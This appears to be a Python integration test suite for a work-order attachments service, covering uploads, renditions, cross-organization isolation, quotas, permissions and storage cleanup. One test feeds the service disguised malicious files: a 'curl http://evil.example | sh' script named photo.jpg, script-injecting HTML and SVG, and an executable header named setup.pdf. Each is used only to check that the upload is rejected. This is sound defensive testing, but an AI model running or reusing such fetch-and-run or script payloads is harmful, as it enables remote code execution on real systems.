"""The attachments service in the session's running system (real NATS, PostgreSQL, the
work-order and assets services it asks about records): files added to work orders and assets,
another organization's record, a renamed script, the size limit and the quota, list, get,
caption and removal with the uploader-or-admin rule, an idempotent add, the objects deleted
after a removal and by the sweep.

The session runs the service with the test limits of ``rivet_devstack.services`` (files up to
1,000,000 bytes, 3,000,000 bytes per organization)."""

import asyncio
import io
import json
import time
import uuid
from collections.abc import AsyncIterator
from typing import Any

import httpx
import nats
import pytest
from PIL import Image

from rivet_attachments import storage
from rivet_attachments.attachments import jobs as attachment_jobs
from rivet_attachments.attachments import rules
from rivet_attachments.state import AttachmentsState
from rivet_contracts import Done, ErrorCode, Events, Identity, Role, ServiceError
from rivet_contracts import attachments as contract
from rivet_contracts.attachments import AttachmentKind, RecordKind, Rendition
from rivet_devstack.testing.helpers import Session, invite_member, register
from rivet_devstack.testing.services import ServiceSet
from rivet_runtime.client import CallMeta
from rivet_runtime.service import ServiceRuntime

pytestmark = pytest.mark.integration

MAX_BYTES = 1_000_000
QUOTA = 3_000_000


def identity(session: Session, role: Role | None = None) -> Identity:
    user = session.user
    return Identity(user_id=user["id"], org_id=user["org_id"], role=role or Role(user["role"]))


def jpeg(width: int = 1200, height: int = 800) -> bytes:
    image = Image.new("RGB", (width, height), (30, 120, 200))
    out = io.BytesIO()
    image.save(out, format="JPEG", quality=85)
    return out.getvalue()


PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"


class Org:
    """An organization of the session: its admin, a technician, a viewer, an asset and a work
    order on it."""

    def __init__(self, services: ServiceSet, admin: Session, tech: Session, viewer: Session):
        self.services = services
        self.admin, self.tech, self.viewer = admin, tech, viewer
        self.asset: dict[str, Any] = {}
        self.order: dict[str, Any] = {}

    @property
    def runtime(self) -> ServiceRuntime[AttachmentsState]:
        return self.services.runtimes["attachments"]

    async def upload(self, data: bytes) -> str:
        return await self.runtime.state.uploads.put(data, prefix="attachments")

    async def call(
        self, spec: Any, request: Any, who: Session | None = None, *, key: str | None = None
    ) -> Any:
        meta = CallMeta(identity(who or self.tech), f"test-{uuid.uuid4().hex[:8]}", "api", key)
        client = self.services.runtimes["gateway"].client
        return await client.call(spec, request, meta, timeout=15)

    async def add(
        self,
        data: bytes,
        filename: str = "photo.jpg",
        *,
        kind: RecordKind = RecordKind.WORK_ORDER,
        ref: str | None = None,
        who: Session | None = None,
        key: str | None = None,
        caption: str | None = None,
    ) -> contract.AttachmentView:
        record = ref or (self.order["id"] if kind is RecordKind.WORK_ORDER else self.asset["id"])
        request = contract.AddAttachment(
            record_kind=kind,
            record_ref=record,
            upload_key=await self.upload(data),
            filename=filename,
            caption=caption,
        )
        view: contract.AttachmentView = await self.call(contract.ADD, request, who, key=key)
        return view


async def _org(services: ServiceSet, api: httpx.AsyncClient) -> Org:
    admin = await register(api)
    org = Org(
        services,
        admin,
        await invite_member(api, admin, "technician"),
        await invite_member(api, admin, "viewer"),
    )
    made = await api.post(
        "/api/equipment",
        json={"manufacturer": "Grundfos", "model": "CR 10-4", "serial": uuid.uuid4().hex[:10]},
        headers=admin.headers,
    )
    assert made.status_code == 201, made.text
    org.asset = made.json()["equipment"]
    order = await api.post(
        "/api/work-orders",
        json={"equipment_id": org.asset["id"], "title": "Seal leaks"},
        headers=admin.headers,
    )
    assert order.status_code == 201, order.text
    org.order = order.json()
    return org


@pytest.fixture
async def org(services: ServiceSet, api: httpx.AsyncClient) -> Org:
    return await _org(services, api)


@pytest.fixture
async def events(services: ServiceSet) -> AsyncIterator[list[dict[str, Any]]]:
    """The attachment events published while the test runs (as JSON envelopes)."""
    settings = services.runtimes["attachments"].settings
    received: list[dict[str, Any]] = []
    nc = await nats.connect(services.env.nats_url)

    async def on(msg: Any) -> None:
        received.append(json.loads(msg.data))

    await nc.subscribe(settings.subject("attachment.>"), cb=on)
    try:
        yield received
    finally:
        await nc.close()


async def until(check: Any, timeout: float = 10.0, what: str = "condition") -> None:
    deadline = time.monotonic() + timeout
    while True:
        done = check()
        if not isinstance(done, bool):
            done = await done
        if done:
            return
        assert time.monotonic() < deadline, f"timed out waiting for {what}"
        await asyncio.sleep(0.05)


async def refused(call: Any) -> ServiceError:
    with pytest.raises(ServiceError) as caught:
        await call
    return caught.value


async def stored(org: Org, key: str) -> bool:
    try:
        await org.runtime.state.files.get(key)
    except ServiceError:
        return False
    return True


# --- adding -----------------------------------------------------------------------------------


async def test_a_photo_on_a_work_order_is_kept_with_its_renditions_and_announced(
    org: Org, events: list[dict[str, Any]]
) -> None:
    photo = jpeg()
    view = await org.add(photo, "../../Pump seal.JPG", caption="  Leak at the seal ")
    assert view.record_kind is RecordKind.WORK_ORDER
    assert str(view.record_id) == org.order["id"]
    assert view.kind is AttachmentKind.IMAGE
    assert view.content_type == "image/jpeg"
    assert (view.width, view.height) == (1200, 800)
    assert view.filename == "Pump seal.JPG"  # no folders
    assert view.caption == "Leak at the seal"
    assert view.renditions == [Rendition.ORIGINAL, Rendition.SCREEN, Rendition.THUMBNAIL]
    assert str(view.uploader_id) == org.tech.user["id"]
    assert view.id.version == 7

    thumb = await org.call(
        contract.GET,
        contract.GetAttachment(attachment_id=view.id, rendition=Rendition.THUMBNAIL),
        org.viewer,
    )
    assert thumb.attachment == view
    small = Image.open(io.BytesIO(await org.runtime.state.files.get(thumb.object_key)))
    assert max(small.size) <= 256
    original = await org.call(
        contract.GET, contract.GetAttachment(attachment_id=view.id), org.viewer
    )
    kept = await org.runtime.state.files.get(original.object_key)
    assert len(kept) == view.size_bytes
    assert original.content_type == "image/jpeg"

    await until(lambda: any(e["type"] == Events.ATTACHMENT_ADDED for e in events), what="event")
    event = next(e for e in events if e["type"] == Events.ATTACHMENT_ADDED)
    assert event["org_id"] == org.admin.user["org_id"]
    assert event["data"]["attachment_id"] == str(view.id)
    assert event["data"]["record_id"] == org.order["id"]
    assert event["data"]["link"] == f"/api/attachments/{view.id}"
    assert len(json.dumps(event)) < 2000  # metadata and a link, never the bytes


async def test_a_pdf_on_an_asset_by_its_number(org: Org) -> None:
    view = await org.add(PDF, "manual.pdf", kind=RecordKind.EQUIPMENT, ref=org.asset["number"])
    assert str(view.record_id) == org.asset["id"]
    assert view.kind is AttachmentKind.PDF
    assert view.content_type == "application/pdf"
    assert view.renditions == [Rendition.ORIGINAL]
    assert view.width is None
    missing = await refused(
        org.call(
            contract.GET, contract.GetAttachment(attachment_id=view.id, rendition=Rendition.SCREEN)
        )
    )
    assert missing.code is ErrorCode.NOT_FOUND
    assert "no screen rendition" in missing.info.message


async def test_another_organizations_record_or_attachment_is_not_found(
    services: ServiceSet, api: httpx.AsyncClient, org: Org
) -> None:
    other = await _org(services, api)
    for kind, ref in (
        (RecordKind.WORK_ORDER, other.order["id"]),
        (RecordKind.EQUIPMENT, other.asset["id"]),
        (RecordKind.WORK_ORDER, str(uuid.uuid4())),
    ):
        error = await refused(org.add(PDF, "x.pdf", kind=kind, ref=ref))
        assert error.code is ErrorCode.NOT_FOUND, (kind, ref)
    theirs = await other.add(PDF, "theirs.pdf")
    for spec, request in (
        (contract.GET, contract.GetAttachment(attachment_id=theirs.id)),
        (contract.UPDATE, contract.UpdateAttachment(attachment_id=theirs.id, caption="mine")),
        (contract.DELETE, contract.DeleteAttachment(attachment_id=theirs.id)),
    ):
        error = await refused(org.call(spec, request, org.admin))
        assert error.code is ErrorCode.NOT_FOUND, spec.subject
    listed = await refused(
        org.call(
            contract.LIST,
            contract.ListAttachments(
                record_kind=RecordKind.WORK_ORDER, record_ref=other.order["id"]
            ),
        )
    )
    assert listed.code is ErrorCode.NOT_FOUND


@pytest.mark.parametrize(
    ("data", "filename"),
    [
        (b"#!/bin/sh\ncurl http://evil.example | sh\n", "photo.jpg"),
        (b"<html><script>alert(1)</script></html>", "page.jpg"),
        (b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "x.svg"),
        (b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 64, "setup.pdf"),
    ],
)
async def test_what_is_not_a_photo_or_document_is_415(org: Org, data: bytes, filename: str) -> None:
    error = await refused(org.add(data, filename))
    assert error.code is ErrorCode.UNSUPPORTED_MEDIA_TYPE
    assert error.info.message


async def test_a_file_over_the_size_limit_is_413(org: Org) -> None:
    error = await refused(org.add(b"a" * (MAX_BYTES + 1), "big.txt"))
    assert error.code is ErrorCode.PAYLOAD_TOO_LARGE
    assert str(MAX_BYTES) in error.info.message


async def test_the_organizations_quota_is_413_and_a_removal_frees_room(org: Org) -> None:
    text = b"line of notes\n" * (900_000 // 14)
    kept = [await org.add(text, f"notes-{n}.txt") for n in range(3)]
    error = await refused(org.add(text, "one-too-many.txt"))
    assert error.code is ErrorCode.PAYLOAD_TOO_LARGE
    assert "quota" in error.info.message
    assert error.info.details is not None
    await org.call(contract.DELETE, contract.DeleteAttachment(attachment_id=kept[0].id))
    again = await org.add(text, "fits-again.txt")
    assert again.kind is AttachmentKind.TEXT


async def test_concurrent_adds_never_go_over_the_quota(org: Org) -> None:
    text = b"x" * 700_000
    results = await asyncio.gather(
        *(org.add(text, f"n{n}.txt") for n in range(6)), return_exceptions=True
    )
    added = [r for r in results if isinstance(r, contract.AttachmentView)]
    over = [r for r in results if isinstance(r, ServiceError)]
    assert len(added) == QUOTA // 700_000
    assert len(over) == 6 - len(added)
    assert all(e.code is ErrorCode.PAYLOAD_TOO_LARGE for e in over)


async def test_a_repeated_add_with_its_key_answers_the_first_attachment_once(org: Org) -> None:
    key = f"add-{uuid.uuid4().hex}"
    upload = await org.upload(PDF)
    request = contract.AddAttachment(
        record_kind=RecordKind.WORK_ORDER,
        record_ref=org.order["id"],
        upload_key=upload,
        filename="a.pdf",
    )
    first, second = await asyncio.gather(
        org.call(contract.ADD, request, key=key), org.call(contract.ADD, request, key=key)
    )
    assert first == second
    page = await org.call(
        contract.LIST,
        contract.ListAttachments(record_kind=RecordKind.WORK_ORDER, record_ref=org.order["id"]),
    )
    assert [a.id for a in page.items] == [first.id]
    other = request.model_copy(update={"filename": "b.pdf"})
    reused = await refused(org.call(contract.ADD, other, key=key))
    assert reused.code is ErrorCode.IDEMPOTENCY_KEY_REUSED


async def test_a_viewer_may_read_but_not_add(org: Org) -> None:
    error = await refused(org.add(PDF, "x.pdf", who=org.viewer))
    assert error.code is ErrorCode.FORBIDDEN


# --- reading, changing, removing --------------------------------------------------------------


async def test_list_pages_oldest_first(org: Org) -> None:
    made = [await org.add(PDF, f"{n}.pdf") for n in range(5)]
    seen: list[uuid.UUID] = []
    after = None
    while True:
        page = await org.call(
            contract.LIST,
            contract.ListAttachments(
                record_kind=RecordKind.WORK_ORDER,
                record_ref=org.order["number"],
                after=after,
                limit=2,
            ),
            org.viewer,
        )
        seen += [a.id for a in page.items]
        if page.next_after is None:
            break
        after = page.next_after
    assert seen == [a.id for a in made]
    on_asset = await org.call(
        contract.LIST,
        contract.ListAttachments(record_kind=RecordKind.EQUIPMENT, record_ref=org.asset["id"]),
    )
    assert on_asset.items == []


async def test_only_the_uploader_or_an_admin_changes_or_removes(
    services: ServiceSet, api: httpx.AsyncClient, org: Org, events: list[dict[str, Any]]
) -> None:
    other_tech = await invite_member(api, org.admin, "technician")
    view = await org.add(jpeg(400, 300), "p.jpg")
    for spec, request in (
        (contract.UPDATE, contract.UpdateAttachment(attachment_id=view.id, caption="no")),
        (contract.DELETE, contract.DeleteAttachment(attachment_id=view.id)),
    ):
        error = await refused(org.call(spec, request, other_tech))
        assert error.code is ErrorCode.FORBIDDEN, spec.subject
        viewer = await refused(org.call(spec, request, org.viewer))
        assert viewer.code is ErrorCode.FORBIDDEN, spec.subject
    changed = await org.call(
        contract.UPDATE, contract.UpdateAttachment(attachment_id=view.id, caption=" Seal ")
    )
    assert changed.caption == "Seal"
    by_admin = await org.call(
        contract.UPDATE, contract.UpdateAttachment(attachment_id=view.id, caption=""), org.admin
    )
    assert by_admin.caption is None
    keys = [
        (
            await org.call(contract.GET, contract.GetAttachment(attachment_id=view.id, rendition=r))
        ).object_key
        for r in view.renditions
    ]
    done = await org.call(
        contract.DELETE, contract.DeleteAttachment(attachment_id=view.id), org.admin
    )
    assert done == Done()
    gone = await refused(org.call(contract.GET, contract.GetAttachment(attachment_id=view.id)))
    assert gone.code is ErrorCode.NOT_FOUND
    again = await refused(
        org.call(contract.DELETE, contract.DeleteAttachment(attachment_id=view.id), org.admin)
    )
    assert again.code is ErrorCode.NOT_FOUND

    async def purged() -> bool:
        return not any([await stored(org, key) for key in keys])

    await until(purged, what="the removed attachment's objects deleted")
    await until(lambda: any(e["type"] == Events.ATTACHMENT_REMOVED for e in events), what="event")
    removed = next(e for e in events if e["type"] == Events.ATTACHMENT_REMOVED)
    assert removed["data"]["attachment_id"] == str(view.id)
    assert removed["data"]["removed_by"] == org.admin.user["id"]


async def test_the_sweep_deletes_old_objects_without_an_attachment(org: Org) -> None:
    files = org.runtime.state.files
    org_id = uuid.UUID(org.admin.user["org_id"])
    old = rules.object_key(org_id, rules.new_id(time.time() - 7200), Rendition.ORIGINAL)
    young = rules.object_key(org_id, rules.new_id(), Rendition.ORIGINAL)
    foreign = f"elsewhere/{uuid.uuid4()}.bin"
    for key in (old, young, foreign):
        await files.put(b"left behind", prefix="", key=key)
    live = await org.add(PDF, "kept.pdf")
    live_key = (
        await org.call(contract.GET, contract.GetAttachment(attachment_id=live.id))
    ).object_key
    assert org.runtime.runner is not None
    await org.runtime.runner.run_now("attachments-sweep")
    assert not await stored(org, old)
    assert await stored(org, young)  # may be an attachment being added
    assert await stored(org, foreign)  # not a key this service writes
    assert await stored(org, live_key)
    await files.delete(young)
    await files.delete(foreign)


async def test_the_bucket_is_read_a_page_at_a_time(org: Org) -> None:
    files = org.runtime.state.files
    mine = [f"paging/{uuid.uuid4()}" for _ in range(5)]
    for key in mine:
        await files.put(b"a page", prefix="", key=key)
    await files.delete(mine[2])
    seen, start, pages = [], 1, 0
    while True:
        page = await storage.key_page(files, start, 2)
        assert len(page.keys) <= 2
        seen += page.keys
        pages += 1
        if not page.next_sequence:
            break
        start = page.next_sequence
    assert [key for key in seen if key in mine] == [mine[0], mine[1], mine[3], mine[4]]
    assert len(seen) == len(set(seen))
    assert pages > 2
    for key in mine:
        await files.delete(key)


async def test_the_sweep_looks_at_a_bounded_number_of_keys_a_pass_and_goes_on_from_there(
    org: Org, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(attachment_jobs, "SWEEP_PAGE", 2)
    monkeypatch.setattr(attachment_jobs, "SWEEP_PASS", 4)
    files = org.runtime.state.files
    org_id = uuid.UUID(org.admin.user["org_id"])
    old = [
        rules.object_key(org_id, rules.new_id(time.time() - 7200), Rendition.ORIGINAL)
        for _ in range(6)
    ]
    for key in old:
        await files.put(b"left behind", prefix="", key=key)
    live = await org.add(PDF, "kept.pdf")
    live_key = (
        await org.call(contract.GET, contract.GetAttachment(attachment_id=live.id))
    ).object_key
    assert org.runtime.runner is not None
    deleted = [await org.runtime.runner.run_now("attachments-sweep")]
    assert deleted[0] <= 4  # six old ones, four keys looked at
    for _ in range(500):  # every pass goes on where the last one stopped
        if not any([await stored(org, key) for key in old]):
            break
        deleted.append(await org.runtime.runner.run_now("attachments-sweep"))
    assert not any([await stored(org, key) for key in old])
    assert len(deleted) >= 2
    assert await stored(org, live_key)


def test_ids_tell_their_time_and_keys_their_attachment() -> None:
    made = rules.new_id(1_800_000_000.5)
    assert made.version == 7
    when = rules.id_time(made)
    assert when is not None
    assert when.timestamp() == pytest.approx(1_800_000_000.5, abs=0.001)
    assert rules.new_id(1.0) < rules.new_id(2.0)
    key = rules.object_key(uuid.uuid4(), made, Rendition.SCREEN)
    assert rules.attachment_of(key) == made
    assert rules.attachment_of("a/b") is None
    assert rules.attachment_of("a/not-a-uuid/original") is None
    assert rules.id_time(uuid.uuid4()) is None
